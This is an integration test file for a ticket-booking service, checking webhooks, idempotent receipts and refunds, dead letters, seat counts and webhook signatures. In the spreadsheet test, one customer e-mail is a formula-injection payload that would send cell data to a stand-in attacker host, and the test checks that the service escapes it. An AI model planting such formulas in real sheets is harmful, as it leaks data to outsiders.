import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'bun:test';
import { webhookSignature } from '../../src/http/webhookSignature';
import type { ManualClock } from '../../src/kernel/clock';
import { toBusMessage } from '../../src/messaging/wire';
import { opsHeaders } from '../support/auth';
import { MODES, call, eventually, startTestService, type TestService } from '../support/service';

const NOW = '2030-01-01T00:00:00.000Z';
const price = { amount: '50.30', currency: 'GBP' };

const ticket = (overrides: Record<string, unknown> = {}) => ({
  ticket_id: crypto.randomUUID(), booking_id: '', status: 'confirmed', price, customer_email: 'ann@example.com', ...overrides,
});

for (const mode of MODES) {
  describe(`tickets (${mode})`, () => {
    let t: TestService;
    const webhook = (tickets: unknown[], key: string | null = crypto.randomUUID()) =>
      call(t.url, 'POST', '/api/tickets-status', { tickets }, key ? { 'Idempotency-Key': key } : {});
    const calls = (service: string, operation?: string) => t.simulators.calls({ service, operation });
    const sheetRows = (sheet: string) => calls('spreadsheets').filter((c) => (c.request as { sheet: string }).sheet === sheet).map((c) => (c.request as { columns: string[] }).columns);

    beforeAll(async () => {
      t = await startTestService(mode, { clockAt: NOW });
    });
    afterAll(async () => {
      await t.close();
    });
    beforeEach(() => {
      t.simulators.reset();
    });

    describe('when the provider confirms a ticket', () => {
      it('lists it, issues one receipt, prints its file and adds the print-sheet row', async () => {
        const confirmed = ticket();
        expect((await webhook([confirmed])).status).toBe(200);
        await eventually(async () => {
          const listed = (await call(t.url, 'GET', '/api/tickets')).json;
          expect(listed).toContainEqual({ ticket_id: confirmed.ticket_id, price, customer_email: 'ann@example.com' });
          expect(calls('receipts', 'issueReceipt').length).toBe(1);
          expect(sheetRows('tickets-to-print')).toEqual([[confirmed.ticket_id, 'ann@example.com', '50.30', 'GBP']]);
          const html = t.simulators.files.content(`${confirmed.ticket_id}-ticket.html`);
          expect(html).toContain(confirmed.ticket_id);
          expect(html).toContain('50.30');
        });
        const receipt = calls('receipts', 'issueReceipt')[0]!.request as { ticket_id: string; price: unknown; idempotency_key: string };
        expect(receipt.ticket_id).toBe(confirmed.ticket_id);
        expect(receipt.price).toEqual({ money_amount: '50.30', money_currency: 'GBP' });
        expect(receipt.idempotency_key).toEndWith(`-${confirmed.ticket_id}`);
      });

      it('gives each fact of a webhook its own header key, and each receipt the key <webhook key>-<ticket id>', async () => {
        const [first, second] = [ticket(), ticket()];
        const key = crypto.randomUUID();
        expect((await webhook([first, second], key)).status).toBe(200);
        await eventually(() => expect(calls('receipts', 'issueReceipt').length).toBe(2));
        const receiptKeys = calls('receipts', 'issueReceipt').map((c) => (c.request as { idempotency_key: string }).idempotency_key);
        expect(receiptKeys.sort()).toEqual([`${key}-${first.ticket_id}`, `${key}-${second.ticket_id}`].sort());

        const headers = async () => (await t.service.store.query<{ payload: string }>(
          "SELECT payload FROM data_lake WHERE name = 'TicketBookingConfirmed_v1' AND actor IN ($1, $2)",
          [`ticket/${first.ticket_id}`, `ticket/${second.ticket_id}`],
        )).map((row) => (JSON.parse(row.payload) as { header: { idempotency_key: string } }).header.idempotency_key);
        await eventually(async () => expect(await headers()).toHaveLength(2));
        expect((await headers()).sort()).toEqual([`${key}-ticket/${first.ticket_id}-1`, `${key}-ticket/${second.ticket_id}-1`].sort());
      });

      it('has no second effect when the same webhook comes three times with one key', async () => {
        const confirmed = ticket();
        const key = crypto.randomUUID();
        for (let i = 0; i < 3; i++) expect((await webhook([confirmed], key)).status).toBe(200);
        // Only this ticket's calls: an earlier test's tickets may still be printing.
        const callsFor = (service: string, operation: string) => calls(service, operation).filter((c) => JSON.stringify(c.request).includes(confirmed.ticket_id));
        const rows = () => sheetRows('tickets-to-print').filter((row) => row[0] === confirmed.ticket_id);
        await eventually(() => {
          expect(callsFor('receipts', 'issueReceipt').length).toBe(1);
          expect(callsFor('files', 'putTicketFile').length).toBe(1);
          expect(rows().length).toBe(1);
        });
        await Bun.sleep(300);
        expect(callsFor('receipts', 'issueReceipt').length).toBe(1);
        expect(callsFor('files', 'putTicketFile').length).toBe(1);
        expect(rows().length).toBe(1);
      });
    });

    describe('when a call to a service that does not deduplicate fails', () => {
      const rowsOf = (ticketId: string) => t.simulators.spreadsheets.rows('tickets-to-print').filter((row) => row[0] === ticketId);
      const deadLetterOf = async (handler: string, messageActor: string) =>
        t.service.store.query<{ error: string }>(
          "SELECT d.error FROM dead_letters d JOIN messages m ON m.id = d.message_id WHERE d.handler = $1 AND m.actor = $2 AND d.status = 'dead'",
          [handler, messageActor],
        );

      it('does not repeat a sheet row whose call may have gone through (500 after the row was added): one row, and a dead letter to check', async () => {
        const confirmed = ticket();
        t.simulators.spreadsheets.failNext('appendRow', 1, { status: 500 }, { afterEffect: true });
        expect((await webhook([confirmed])).status).toBe(200);
        const [letter] = await eventually(async () => {
          const letters = await deadLetterOf('appendToPrintSheet', `ticket/${confirmed.ticket_id}`);
          expect(letters).toHaveLength(1);
          return letters;
        });
        expect(letter!.error).toContain('not retried: the call may have taken effect');
        expect(rowsOf(confirmed.ticket_id)).toEqual([[confirmed.ticket_id, 'ann@example.com', '50.30', 'GBP']]);
        expect(calls('spreadsheets', 'appendRow').filter((c) => (c.request as { columns: string[] }).columns[0] === confirmed.ticket_id)).toHaveLength(1);
      });

      it('retries a row the sheet refused without acting (503, 429) and adds it once', async () => {
        const confirmed = ticket();
        t.simulators.spreadsheets.failNext('appendRow', 1, 'retryable');
        t.simulators.spreadsheets.failNext('appendRow', 1, { status: 429 });
        expect((await webhook([confirmed])).status).toBe(200);
        await eventually(async () => expect(rowsOf(confirmed.ticket_id)).toHaveLength(1));
        expect(calls('spreadsheets', 'appendRow').filter((c) => (c.request as { columns: string[] }).columns[0] === confirmed.ticket_id)).toHaveLength(3);
        expect(await deadLetterOf('appendToPrintSheet', `ticket/${confirmed.ticket_id}`)).toEqual([]);
      });

      it('does not book at Dead Nation twice when its answer is lost (502 after booking), and never calls it for a booking already placed', async () => {
        const show = await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 5, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' });
        t.simulators.controls('deadNation').failNext('bookTickets', 1, { status: 502 }, { afterEffect: true });
        const lost = await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 1, customer_email: 'bob@example.com' });
        await eventually(async () => expect(await deadLetterOf('bookAtDeadNation', `booking/${lost.json.booking_id}`)).toHaveLength(1));
        expect(calls('deadNation').filter((c) => (c.request as { booking_id: string }).booking_id === lost.json.booking_id)).toHaveLength(1);
        expect((await t.service.runtime.get(`booking/${lost.json.booking_id}`))?.state).toBe('placing');

        const placed = await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 1, customer_email: 'bob@example.com' });
        await eventually(async () => expect((await t.service.runtime.get(`booking/${placed.json.booking_id}`))?.state).toBe('placed'));
        // A delivery of BookingMade_v1 whose inbox row was lost (a crash after the booking was placed).
        const made = (await t.service.store.readActorMessages(`booking/${placed.json.booking_id}`)).find((m) => m.name === 'BookingMade_v1')!;
        await t.service.store.execute("DELETE FROM inbox WHERE handler = 'bookAtDeadNation' AND message_id = $1", [made.id]);
        await t.service.consumers.redeliver('bookAtDeadNation', toBusMessage(made, NOW), 2);
        expect(calls('deadNation').filter((c) => (c.request as { booking_id: string }).booking_id === placed.json.booking_id)).toHaveLength(1);
      });
    });

    describe('when the provider cancels a ticket', () => {
      it('adds the refund-sheet row and drops it from the list', async () => {
        const confirmed = ticket();
        await webhook([confirmed]);
        await eventually(async () => expect((await call(t.url, 'GET', '/api/tickets')).json.map((x: { ticket_id: string }) => x.ticket_id)).toContain(confirmed.ticket_id));
        expect((await webhook([{ ...confirmed, status: 'canceled' }])).status).toBe(200);
        await eventually(async () => {
          expect(sheetRows('tickets-to-refund')).toEqual([[confirmed.ticket_id, 'ann@example.com', '50.30', 'GBP']]);
          expect((await call(t.url, 'GET', '/api/tickets')).json.map((x: { ticket_id: string }) => x.ticket_id)).not.toContain(confirmed.ticket_id);
        });
      });
    });

    describe('when the provider writes a ticket id as another form of UUID', () => {
      it('accepts any version and variant in any case, and knows the ticket by its lower-case id', async () => {
        // Version 1 and variant digit 1 (the NCS variant): a UUID by its format, refused by zod's z.uuid().
        const lower = `12345678-1234-1234-1234-${crypto.randomUUID().slice(24)}`;
        const confirmed = ticket({ ticket_id: lower.toUpperCase() });
        expect((await webhook([confirmed])).status).toBe(200);
        await eventually(async () => {
          expect((await call(t.url, 'GET', '/api/tickets')).json).toContainEqual({ ticket_id: lower, price, customer_email: 'ann@example.com' });
          expect(sheetRows('tickets-to-print')).toEqual([[lower, 'ann@example.com', '50.30', 'GBP']]);
        });
        expect((await call(t.url, 'PUT', `/api/ticket-refund/${lower.toUpperCase()}`)).status).toBe(202);
        await eventually(async () => expect((await t.service.runtime.get(`ticket/${lower}`))?.state).toBe('refunded'));
      });
    });

    describe('when a customer e-mail starts like a spreadsheet formula', () => {
      it('writes it to the sheets as text (a leading apostrophe), and keeps it as sent everywhere else', async () => {
        const formula = ticket({ customer_email: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")@example.com' });
        const plus = ticket({ customer_email: '+1@example.com' });
        expect((await webhook([formula, plus])).status).toBe(200);
        await eventually(async () => {
          expect(sheetRows('tickets-to-print')).toEqual(expect.arrayContaining([
            [formula.ticket_id, `'${formula.customer_email}`, '50.30', 'GBP'],
            [plus.ticket_id, "'+1@example.com", '50.30', 'GBP'],
          ]));
          expect((await call(t.url, 'GET', '/api/tickets')).json).toContainEqual({ ticket_id: formula.ticket_id, price, customer_email: formula.customer_email });
        });
        expect((await webhook([{ ...plus, status: 'canceled' }])).status).toBe(200);
        await eventually(() => expect(sheetRows('tickets-to-refund')).toEqual([[plus.ticket_id, "'+1@example.com", '50.30', 'GBP']]));
      });
    });

    describe('when the provider writes a price with leading zeros', () => {
      it('keeps the amount in its one form everywhere: list, sheet row', async () => {
        const padded = ticket({ price: { amount: '0050.30', currency: 'GBP' } });
        expect((await webhook([padded])).status).toBe(200);
        await eventually(async () => {
          expect((await call(t.url, 'GET', '/api/tickets')).json).toContainEqual({ ticket_id: padded.ticket_id, price, customer_email: 'ann@example.com' });
          expect(sheetRows('tickets-to-print')).toEqual([[padded.ticket_id, 'ann@example.com', '50.30', 'GBP']]);
        });
      });
    });

    describe('when the tickets are listed a page at a time', () => {
      it('gives `limit` tickets, announces the next page in Link, and refuses a limit outside 1..100', async () => {
        const mine = [ticket(), ticket(), ticket()];
        expect((await webhook(mine)).status).toBe(200);
        const listed = async (): Promise<string[]> => (await call(t.url, 'GET', '/api/tickets')).json.map((x: { ticket_id: string }) => x.ticket_id);
        // Earlier tests' tickets may still be arriving in the list: page it once it has settled.
        const all = await eventually(async () => {
          const before = await listed();
          expect(before).toEqual(expect.arrayContaining(mine.map((m) => m.ticket_id)));
          await Bun.sleep(100);
          expect(await listed()).toEqual(before);
          return before;
        });
        const first = await call(t.url, 'GET', '/api/tickets?limit=2');
        expect(first.json.map((x: { ticket_id: string }) => x.ticket_id)).toEqual(all.slice(0, 2));
        const next = /<([^>]+)>; rel="next"/.exec(first.headers.get('link') ?? '')?.[1];
        expect(next).toBeDefined();
        const second = await call(t.url, 'GET', new URL(next!, t.url).pathname + new URL(next!, t.url).search);
        expect(second.json.map((x: { ticket_id: string }) => x.ticket_id)).toEqual(all.slice(2, 4));
        for (const limit of ['0', '101', 'x']) {
          const refused = await call(t.url, 'GET', `/api/tickets?limit=${limit}`);
          expect(refused.status).toBe(400);
          expect(refused.json.code).toBe('VALIDATION_FAILED');
        }
      });
    });

    describe('when a sale reports an unusual e-mail address', () => {
      it('takes every address mail systems accept (quoted, internationalized, IP literal, a bare host) and refuses text that is no address', async () => {
        const unusual = ['"john doe"@example.com', 'ünï@exämple.com', 'user@[192.168.0.1]', 'user@localhost'].map((customer_email) => ticket({ customer_email }));
        expect((await webhook(unusual)).status).toBe(200);
        await eventually(async () => {
          const listed = (await call(t.url, 'GET', '/api/tickets')).json as { ticket_id: string; customer_email: string }[];
          for (const sold of unusual) expect(listed).toContainEqual(expect.objectContaining({ ticket_id: sold.ticket_id, customer_email: sold.customer_email }));
        });
        for (const customer_email of ['no-at-sign', '@example.com', 'ann@', 'ann@exa\u0000mple.com', 'ann@example.com\n']) {
          const refused = await webhook([ticket({ customer_email })]);
          expect([customer_email, refused.status, Object.keys(refused.json?.errors ?? {})]).toEqual([customer_email, 400, ['tickets.0.customer_email']]);
        }
      });
    });

    describe('when the webhook is malformed', () => {
      it('refuses a request without Idempotency-Key with 400', async () => {
        const refused = await webhook([ticket()], null);
        expect(refused.status).toBe(400);
        expect(refused.json.code).toBe('IDEMPOTENCY_KEY_REQUIRED');
      });

      it('refuses the whole body when one ticket is bad, recording nothing', async () => {
        const good = ticket();
        const refused = await webhook([good, ticket({ ticket_id: 'not-a-uuid', status: 'lost', price: { amount: '5', currency: 'gbp' } })]);
        expect(refused.status).toBe(400);
        expect(Object.keys(refused.json.errors).sort()).toEqual(['tickets.1.price.amount', 'tickets.1.price.currency', 'tickets.1.status', 'tickets.1.ticket_id']);
        await Bun.sleep(200);
        expect((await call(t.url, 'GET', '/api/tickets')).json.map((x: { ticket_id: string }) => x.ticket_id)).not.toContain(good.ticket_id);
        expect(await t.service.runtime.get(`ticket/${good.ticket_id}`)).toBeNull();
      });

      it('refuses more than 1 000 tickets in one call, naming the bound as other bounds are named', async () => {
        const refused = await webhook(Array.from({ length: 1_001 }, () => ticket()));
        expect([refused.status, refused.json.code, refused.json.errors]).toEqual([400, 'VALIDATION_FAILED', { tickets: ['at most 1000 items'] }]);
      });
    });

    describe('when a ticket is refunded', () => {
      it('voids the receipt once, refunds the payment once with refund-<ticket_id>, even when asked twice', async () => {
        const confirmed = ticket();
        await webhook([confirmed]);
        await eventually(() => expect(calls('receipts', 'issueReceipt').length).toBe(1));
        const first = await call(t.url, 'PUT', `/api/ticket-refund/${confirmed.ticket_id}`);
        const second = await call(t.url, 'PUT', `/api/ticket-refund/${confirmed.ticket_id}`);
        expect([first.status, second.status]).toEqual([202, 202]);
        expect(first.text).toBe('');
        await eventually(async () => {
          expect(calls('receipts', 'voidReceipt').length).toBe(1);
          expect(calls('payments', 'refund').map((c) => c.request)).toEqual([
            { payment_reference: confirmed.ticket_id, reason: 'ticket refunded', deduplication_id: `refund-${confirmed.ticket_id}` },
          ]);
          expect((await t.service.runtime.get(`ticket/${confirmed.ticket_id}`))?.state).toBe('refunded');
          expect((await call(t.url, 'GET', '/api/tickets')).json.map((x: { ticket_id: string }) => x.ticket_id)).not.toContain(confirmed.ticket_id);
        });
        expect((await call(t.url, 'PUT', `/api/ticket-refund/${confirmed.ticket_id}`)).status).toBe(202);
        await Bun.sleep(200);
        expect(calls('payments', 'refund').length).toBe(1);
      });

      it('answers 404 for an unknown ticket and 400 for a non-UUID id', async () => {
        expect((await call(t.url, 'PUT', '/api/ticket-refund/00000000-0000-0000-0000-000000000001')).status).toBe(404);
        const unknown = crypto.randomUUID();
        const answer = await call(t.url, 'PUT', `/api/ticket-refund/${unknown}`);
        // A code of its own, as SHOW_NOT_FOUND or HOLD_NOT_FOUND, and no internal actor address.
        expect([answer.status, answer.json?.code, answer.json?.detail]).toEqual([404, 'TICKET_NOT_FOUND', `ticket ${unknown} not found`]);
        expect((await call(t.url, 'PUT', '/api/ticket-refund/abc')).status).toBe(400);
      });

      it('voids the receipt only once it is issued, when the refund comes first', async () => {
        const confirmed = ticket();
        t.simulators.controls('receipts').failNext('issueReceipt', 2, 'retryable');
        expect((await webhook([confirmed])).status).toBe(200);
        expect((await call(t.url, 'PUT', `/api/ticket-refund/${confirmed.ticket_id}`)).status).toBe(202);
        await eventually(async () => expect((await t.service.runtime.get(`ticket/${confirmed.ticket_id}`))?.state).toBe('refunded'));
        const succeeded = calls('receipts').filter((c) => c.outcome === 'success').map((c) => c.operation);
        expect(succeeded).toEqual(['issueReceipt', 'voidReceipt']);
        expect(calls('payments', 'refund')).toHaveLength(1);
      });

      it('refuses to refund a cancelled ticket with 409', async () => {
        const canceled = ticket({ status: 'canceled' });
        await webhook([canceled]);
        const refused = await call(t.url, 'PUT', `/api/ticket-refund/${canceled.ticket_id}`);
        expect(refused.status).toBe(409);
        expect(refused.json.code).toBe('NOT_ALLOWED_IN_STATE');
      });
    });

    describe('when a booking is made', () => {
      it('calls Dead Nation exactly once with the show\'s dead_nation_id and places the booking', async () => {
        const show = await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 5, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' });
        const dn = (await call(t.url, 'GET', '/api/shows')).json.find((s: { show_id: string }) => s.show_id === show.json.show_id).dead_nation_id;
        const booking = await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 2, customer_email: 'bob@example.com' });
        await eventually(async () => expect((await t.service.runtime.get(`booking/${booking.json.booking_id}`))?.state).toBe('placed'));
        expect(calls('deadNation').map((c) => c.request)).toEqual([
          { booking_id: booking.json.booking_id, event_id: dn, number_of_tickets: 2, customer_address: 'bob@example.com' },
        ]);
      });

      it('links a ticket whose booking_id is its booking UUID in upper case to that booking', async () => {
        const show = await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 3, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' });
        const bookingId = (await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 1, customer_email: 'bob@example.com' })).json.booking_id as string;
        const shouted = ticket({ booking_id: bookingId.toUpperCase() });
        expect((await webhook([shouted])).status).toBe(200);
        await eventually(async () => {
          const ops = await call(t.url, 'GET', `/api/ops/bookings/${bookingId}`);
          expect(ops.json.tickets?.map((x: { ticket_id: string }) => x.ticket_id)).toEqual([shouted.ticket_id]);
        });
        // Not a UUID: kept as sent, an id of the provider's.
        const other = ticket({ booking_id: 'EXT-Booking-7' });
        expect((await webhook([other])).status).toBe(200);
        await eventually(async () => expect((await t.service.runtime.get(`ticket/${other.ticket_id}`))?.context).toMatchObject({ bookingId: 'EXT-Booking-7' }));
      });

      it('frees a seat for a cancelled ticket only if it had been confirmed, so a valid ticket keeps its seat', async () => {
        const show = await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 2, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' });
        const booking = await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 1, customer_email: 'bob@example.com' });
        const available = async () => (await call(t.url, 'GET', '/api/shows')).json.find((s: { show_id: string }) => s.show_id === show.json.show_id).available_tickets;
        const holder = ticket({ booking_id: booking.json.booking_id });
        expect((await webhook([holder])).status).toBe(200);
        expect((await webhook([ticket({ booking_id: booking.json.booking_id, status: 'canceled' })])).status).toBe(200);
        expect(await available()).toBe(1);
        expect((await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 2, customer_email: 'eve@example.com' })).json.code).toBe('SOLD_OUT');

        expect((await webhook([{ ...holder, status: 'canceled' }])).status).toBe(200);
        expect(await available()).toBe(2);
      });

      it('counts a ticket confirmed past the seats booked against the show, and frees no seat a valid ticket still needs', async () => {
        const showOf = async (seats: number) => (await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: seats, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' })).json.show_id as string;
        const available = async (showId: string) => (await call(t.url, 'GET', '/api/shows')).json.find((s: { show_id: string }) => s.show_id === showId).available_tickets;
        const book = (showId: string, seats: number) => call(t.url, 'POST', '/api/book-tickets', { show_id: showId, number_of_tickets: seats, customer_email: 'bob@example.com' });

        // A spare seat: the second ticket of a 1-seat booking takes it.
        const roomy = await showOf(2);
        const one = (await book(roomy, 1)).json.booking_id;
        const [first, second] = [ticket({ booking_id: one }), ticket({ booking_id: one })];
        expect((await webhook([first, second])).status).toBe(200);
        expect(await available(roomy)).toBe(0);
        expect((await book(roomy, 1)).json.code).toBe('SOLD_OUT');
        expect((await webhook([{ ...first, status: 'canceled' }])).status).toBe(200);
        expect(await available(roomy)).toBe(1);
        expect((await book(roomy, 2)).json.code).toBe('SOLD_OUT');

        // No spare seat: the provider's sale stands, and cancelling one of the two frees nothing.
        const full = await showOf(1);
        const only = (await book(full, 1)).json.booking_id;
        const [a, b] = [ticket({ booking_id: only }), ticket({ booking_id: only })];
        expect((await webhook([a, b])).status).toBe(200);
        expect((await webhook([{ ...a, status: 'canceled' }])).status).toBe(200);
        expect(await available(full)).toBe(0);
        expect((await webhook([{ ...b, status: 'canceled' }])).status).toBe(200);
        expect(await available(full)).toBe(1);
      });

      it('gives every seat back when many tickets confirmed past the booking are cancelled in one webhook', async () => {
        const show = (await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 10, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' })).json.show_id as string;
        const available = async () => (await call(t.url, 'GET', '/api/shows')).json.find((s: { show_id: string }) => s.show_id === show).available_tickets;
        const bookingId = (await call(t.url, 'POST', '/api/book-tickets', { show_id: show, number_of_tickets: 2, customer_email: 'bob@example.com' })).json.booking_id;
        const tickets = Array.from({ length: 20 }, () => ticket({ booking_id: bookingId }));
        expect((await webhook(tickets)).status).toBe(200);
        expect(await available()).toBe(0);
        // Committed together (group commit), the releases must not see each other's counts half-done.
        expect((await webhook(tickets.map((x) => ({ ...x, status: 'canceled' })))).status).toBe(200);
        expect(await available()).toBe(10);
      });

      it('gives the seats back when Dead Nation refuses the booking', async () => {
        const show = await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 2, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' });
        t.simulators.controls('deadNation').failNext('bookTickets', 1, 'terminal');
        const booking = await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 2, customer_email: 'bob@example.com' });
        await eventually(async () => expect((await t.service.runtime.get(`booking/${booking.json.booking_id}`))?.state).toBe('failed'));
        const listed = (await call(t.url, 'GET', '/api/shows')).json.find((s: { show_id: string }) => s.show_id === show.json.show_id);
        expect(listed.available_tickets).toBe(2);
      });

      it('keeps the booking and its seats when Dead Nation answers 401 (credentials, GATEWAY_ADDR): a dead letter that a redrive places', async () => {
        const show = await call(t.url, 'POST', '/api/shows', { dead_nation_id: `dn-${crypto.randomUUID()}`, number_of_tickets: 2, start_time: '2030-06-01T20:00:00Z', title: 'T', venue: 'V' });
        const deadNation = t.simulators.controls('deadNation');
        deadNation.failNext('bookTickets', 1, { status: 401 });
        const booking = await call(t.url, 'POST', '/api/book-tickets', { show_id: show.json.show_id, number_of_tickets: 2, customer_email: 'bob@example.com' });
        const address = `booking/${booking.json.booking_id}`;
        const letter = await eventually(async () => {
          const letters = await t.service.store.query<{ id: string }>("SELECT id FROM dead_letters WHERE handler = 'bookAtDeadNation' AND CAST(message AS TEXT) LIKE $1", [`%${booking.json.booking_id}%`]);
          const [row] = letters;
          expect(row).toBeDefined();
          return row!;
        });
        expect((await t.service.runtime.get(address))?.state).toBe('placing');
        const listed = (await call(t.url, 'GET', '/api/shows')).json.find((s: { show_id: string }) => s.show_id === show.json.show_id);
        expect(listed.available_tickets).toBe(0);
        expect((await call(t.url, 'POST', `/api/ops/dead-letters/${letter.id}/retry`, {}, opsHeaders(t))).status).toBe(200);
        await eventually(async () => expect((await t.service.runtime.get(address))?.state).toBe('placed'));
        expect(deadNation.calls({ operation: 'bookTickets' }).filter((c) => (c.request as { booking_id: string }).booking_id === booking.json.booking_id).length).toBe(2);
      });
    });

    describe('when one webhook reports many tickets, one of them twice', () => {
      // Last of this mode: the work these tickets cause outlasts the test.
      it('records every ticket, and the two statuses of one ticket in body order', async () => {
        const many = Array.from({ length: 300 }, () => ticket());
        const twice = many[150]!;
        expect((await webhook([...many.slice(0, 151), { ...twice, status: 'canceled' }, ...many.slice(151)])).status).toBe(200);
        for (const reported of many) {
          expect((await t.service.runtime.get(`ticket/${reported.ticket_id}`))?.state).toBe(reported === twice ? 'canceled' : 'active');
        }
        await eventually(async () => {
          const listed = new Set((await call(t.url, 'GET', '/api/tickets')).json.map((x: { ticket_id: string }) => x.ticket_id));
          expect(many.filter((x) => listed.has(x.ticket_id)).length).toBe(299);
          expect(listed.has(twice.ticket_id)).toBe(false);
        });
      });
    });
  });
}

for (const mode of MODES) {
  describe(`a refund that waits for a receipt whose issue was dead-lettered (${mode})`, () => {
    let t: TestService;
    beforeAll(async () => {
      // Two quick attempts: the receipts service down for a moment dead-letters the receipt's issue.
      t = await startTestService(mode, { clockAt: NOW, env: { HANDLER_RETRY_ATTEMPTS: '2', HANDLER_RETRY_MAX_DELAY_MS: '20' } });
    });
    afterAll(async () => {
      await t.close();
    });

    it('asks for the receipt again at its check once the receipts service is back, and refunds with one receipt, one void and one refund', async () => {
      const confirmed = ticket();
      const address = `ticket/${confirmed.ticket_id}`;
      t.simulators.controls('receipts').failNext('issueReceipt', 2, 'retryable');
      expect((await call(t.url, 'POST', '/api/tickets-status', { tickets: [confirmed] }, { 'Idempotency-Key': crypto.randomUUID() })).status).toBe(200);
      expect((await call(t.url, 'PUT', `/api/ticket-refund/${confirmed.ticket_id}`)).status).toBe(202);
      const letters = (status: string) => t.service.store.query<{ id: string }>(
        "SELECT d.id FROM dead_letters d JOIN messages m ON m.id = d.message_id WHERE d.handler = 'issueReceipt' AND m.actor = $1 AND d.status = $2",
        [address, status],
      );
      await eventually(async () => expect(await letters('dead')).toHaveLength(1));
      expect((await t.service.runtime.get(address))?.state).toBe('refundAwaitingReceipt');

      (t.clock as ManualClock).advance(61_000);
      await eventually(async () => expect((await t.service.runtime.get(address))?.state).toBe('refunded'));
      const succeeded = t.simulators.calls({ service: 'receipts' }).filter((c) => c.outcome === 'success').map((c) => c.operation);
      expect(succeeded).toEqual(['issueReceipt', 'voidReceipt']);
      expect(t.simulators.calls({ service: 'payments', operation: 'refund' })).toHaveLength(1);
      // Asked again and done: the letter needs no operator.
      expect([await letters('dead'), (await letters('redriven')).length]).toEqual([[], 1]);
    });
  });
}

describe('the ticket-status webhook with WEBHOOK_SECRET set', () => {
  const SECRET = 'webhook-secret-for-tests';
  let t: TestService;
  const post = (body: string, headers: Record<string, string>) =>
    fetch(`${t.url}/api/tickets-status`, { method: 'POST', headers: { 'content-type': 'application/json', 'Idempotency-Key': crypto.randomUUID(), ...headers }, body });

  beforeAll(async () => {
    t = await startTestService('embedded', { clockAt: NOW, env: { WEBHOOK_SECRET: SECRET } });
  });
  afterAll(async () => {
    await t.close();
  });

  it('documents the signature header and its 401 in the OpenAPI document', async () => {
    const doc = (await (await fetch(`${t.url}/openapi/json`)).json()) as { paths: Record<string, Record<string, { parameters?: { name: string; in: string; required?: boolean }[]; responses: Record<string, unknown> }>> };
    const webhook = doc.paths['/api/tickets-status']!.post!;
    expect(webhook.parameters?.find((p) => p.name === 'X-Webhook-Signature')).toMatchObject({ in: 'header', required: true });
    expect(webhook.parameters?.map((p) => p.name)).toEqual(expect.arrayContaining(['Idempotency-Key', 'X-Idempotency-Key']));
    expect(Object.keys(webhook.responses)).toContain('401');
  });

  it('takes a body signed with the secret', async () => {
    const signed = ticket();
    const body = JSON.stringify({ tickets: [signed] });
    const response = await post(body, { 'X-Webhook-Signature': webhookSignature(SECRET, body) });
    expect(response.status).toBe(200);
    await eventually(async () => expect((await call(t.url, 'GET', '/api/tickets')).json).toContainEqual({ ticket_id: signed.ticket_id, price, customer_email: 'ann@example.com' }));
  });

  it('refuses with 401 INVALID_SIGNATURE, recording nothing, a body unsigned, signed with another secret or changed after signing', async () => {
    const refusedTicket = ticket();
    const body = JSON.stringify({ tickets: [refusedTicket] });
    const attempts: Record<string, string>[] = [
      {},
      { 'X-Webhook-Signature': webhookSignature('another-secret', body) },
      { 'X-Webhook-Signature': webhookSignature(SECRET, JSON.stringify({ tickets: [{ ...refusedTicket, status: 'canceled' }] })) },
      { 'X-Webhook-Signature': 'sha256=' },
    ];
    for (const headers of attempts) {
      const response = await post(body, headers);
      expect(response.status).toBe(401);
      expect(response.headers.get('content-type')).toContain('application/problem+json');
      // RFC 9110: a 401 names how to authenticate; here the signature header.
      expect(response.headers.get('www-authenticate')).toBe('HMAC-SHA256 realm="tickets-webhook", header="X-Webhook-Signature"');
      expect(((await response.json()) as { code: string }).code).toBe('INVALID_SIGNATURE');
    }
    expect(await t.service.runtime.get(`ticket/${refusedTicket.ticket_id}`)).toBeNull();
  });

  it('checks the signature before the body: an unsigned malformed body is 401, not 400', async () => {
    const response = await post(JSON.stringify({ tickets: [{ ticket_id: 'nope' }] }), {});
    expect(response.status).toBe(401);
  });
});
